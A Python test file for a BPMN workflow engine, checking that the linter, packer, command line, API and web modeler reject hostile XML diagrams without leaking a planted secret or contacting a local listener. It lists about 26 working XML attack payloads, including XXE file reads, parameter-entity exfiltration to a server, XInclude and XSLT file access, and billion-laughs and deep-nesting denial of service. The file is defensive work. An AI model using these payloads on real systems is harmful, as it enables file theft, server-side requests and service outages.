"""A drawing reads no file, asks no server and fills no memory, through whatever door it comes."""

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner

from engine.cli.program import gongxiang
from engine.core.lint import lint
from engine.core.workflow import Blueprint
from engine.errors import PackError
from tests.core.lint.good import DIAGRAM, files
from tests.trust.doors import PREFIX, Doors

ADMIN = "sysadmin"
PATH = "data-request/data-request.bpmn"
SECRET = "一个不该出现的秘密"
SPACE = 'xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"'
BODY = '<bpmn:process id="good" name="{}"/>'


def drawn(head: str, inside: str = "", space: str = "") -> str:
    """A file with something before its first element, and something in it."""
    return f"{head}<bpmn:definitions {SPACE} {space}>{inside}</bpmn:definitions>"


def _laughs(kind: str) -> str:
    rows = "".join(f'<!ENTITY {kind}a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE d [<!ENTITY a0 "ha">{rows}]>'


#: `{file}` and `{url}` lead to a file that nobody may see, and to a server that nobody may ask.
ATTEMPTS = {
    "file entity": drawn('<!DOCTYPE d [<!ENTITY x SYSTEM "{file}">]>', BODY.format("&x;")),
    "web entity": drawn('<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/x">]>', BODY.format("&x;")),
    "public entity": drawn('<!DOCTYPE d [<!ENTITY x PUBLIC "a" "{url}/x">]>', BODY.format("&x;")),
    "parameter entity": drawn('<!DOCTYPE d [<!ENTITY % x SYSTEM "{url}/x.dtd"> %x;]>'),
    "entity made of entities": drawn(
        '<!DOCTYPE d [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY s SYSTEM '
        "'{url}/?%f;'>\">%e;]>",
        BODY.format("&s;"),
    ),
    "external dtd": drawn('<!DOCTYPE d SYSTEM "{url}/x.dtd">'),
    "public dtd": drawn('<!DOCTYPE d PUBLIC "-//X//EN" "{url}/x.dtd">'),
    "default attribute": drawn(
        '<!DOCTYPE d [<!ATTLIST bpmn:process isExecutable CDATA "true">]>', BODY.format("x")
    ),
    "laughs": drawn(_laughs(""), BODY.format("&a11;")),
    "quadratic": drawn(
        f'<!DOCTYPE d [<!ENTITY x "{"x" * 50_000}">]>', BODY.format("&x;" * 5_000)
    ),
    "endless entity": drawn('<!DOCTYPE d [<!ENTITY x "&y;"><!ENTITY y "&x;">]>', "&x;"),
    "include": drawn(
        "", '<xi:include href="{file}" parse="text"/>', 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    ),
    "include from the web": drawn(
        "", '<xi:include href="{url}/x"/>', 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    ),
    "style sheet": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>' + drawn(""),
    "style sheet as a drawing": (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template match="/"><xsl:copy-of select="document(\'{file}\')"/></xsl:template>'
        "</xsl:stylesheet>"
    ),
    "schema location": drawn(
        "", BODY.format("x"),
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation='
        '"http://www.omg.org/spec/BPMN/20100524/MODEL {url}/x.xsd"',
    ),
    "import": drawn(
        "",
        '<bpmn:import importType="http://www.omg.org/spec/BPMN/20100524/MODEL"'
        ' location="{url}/x.bpmn" namespace="urn:x"/>',
    ),
    "script": drawn(
        "",
        '<bpmn:process id="good" isExecutable="true"><bpmn:scriptTask id="s">'
        "<bpmn:script>open('{file}').read()</bpmn:script></bpmn:scriptTask></bpmn:process>",
    ),
    "deep": drawn("", "<bpmn:documentation>" * 3_000 + "</bpmn:documentation>" * 3_000),
    "deeper, and torn": "<a>" * 100_000,
    "many attributes": "<a " + " ".join(f'a{n}="x"' for n in range(50_000)) + "/>",
    "long name": drawn("", f'<bpmn:process id="{"x" * 900_000}"/>'),
    "utf-7": '<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-',
    "wrong encoding": '<?xml version="1.0" encoding="UTF-16"?>' + drawn(""),
    "nul": drawn("", "\x00"),
    "half a pair": drawn("", "&#xD800;"),
}  # fmt: skip


class Listener:
    """A server of this machine that counts who asks it."""

    def __init__(self) -> None:
        self.asked = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self._count, daemon=True).start()

    def _count(self) -> None:
        while True:
            try:
                caller, _ = self.socket.accept()
            except OSError:
                return
            self.asked += 1
            caller.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.socket.close()


@pytest.fixture
def attempt(request: pytest.FixtureRequest, listener: Listener, tmp_path: Path) -> Iterator[str]:
    """The drawing, pointing to a real secret and a real server; nobody asks the server."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    text = ATTEMPTS[request.param]
    yield text.replace("{file}", secret.as_uri()).replace("{url}", listener.url)
    assert listener.asked == 0


each_attempt = pytest.mark.parametrize("attempt", ATTEMPTS, indirect=True)


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


@each_attempt
def test_refused_by_the_check_in_a_sentence(attempt: str) -> None:
    found = lint(files() | {DIAGRAM: _bytes(attempt)})
    errors = [each for each in found if each.severity == "error"]
    assert errors
    assert all(any("\u4e00" <= sign <= "\u9fff" for sign in each.message) for each in errors)
    assert SECRET not in str(found)
    assert "internal" not in {each.rule for each in found}


@each_attempt
def test_refused_when_a_case_would_run_by_it(attempt: str) -> None:
    with pytest.raises(PackError) as caught:
        Blueprint("good", {DIAGRAM: _bytes(attempt)})
    assert SECRET not in str(caught.value)


@each_attempt
def test_refused_on_the_command_line(attempt: str, tmp_path: Path) -> None:
    path = tmp_path / "drawing.bpmn"
    path.write_bytes(_bytes(attempt))
    answer = CliRunner().invoke(gongxiang, ["pack", "check", str(path), "--json"])
    assert answer.exit_code == 1, answer.output
    assert SECRET not in answer.output
    assert json.loads(answer.stdout)["problems"]


@each_attempt
def test_refused_over_the_api(attempt: str, shared: Doors) -> None:
    for act in ("check", "deploy"):
        answer = shared.api.post(
            ADMIN, f"/packs/jz-2022/{act}", files={PATH: attempt}, reason="试一试"
        )
        refused = 400 <= answer.status < 500
        assert refused or (act == "check" and answer.json["ok"] is False), answer.text[:300]
        assert SECRET not in answer.text


@each_attempt
def test_refused_in_the_modeler(attempt: str, shared: Doors) -> None:
    browser = shared.browser(ADMIN)
    browser.get("/account")
    headers = {"X-CSRFToken": browser.token}
    checked = browser.client.post(
        "/modeler/check", json={"path": PATH, "text": attempt}, headers=headers
    )
    assert 400 <= checked.status_code < 500 or any(
        each["severity"] == "error" for each in checked.get_json()["problems"]
    )
    taken = browser.client.post("/modeler/import-check", data=_bytes(attempt), headers=headers)
    assert taken.status_code < 500
    assert SECRET not in checked.text + taken.text


def test_the_way_of_asking_is_right(shared: Doors) -> None:
    """What is in order passes through the same doors."""
    answer = shared.api.post(ADMIN, "/packs/jz-2022/check", files={})
    assert answer.json["ok"] is True, answer.text[:500]
    assert PREFIX


def test_there_are_many_attempts() -> None:
    assert len(ATTEMPTS) >= 25
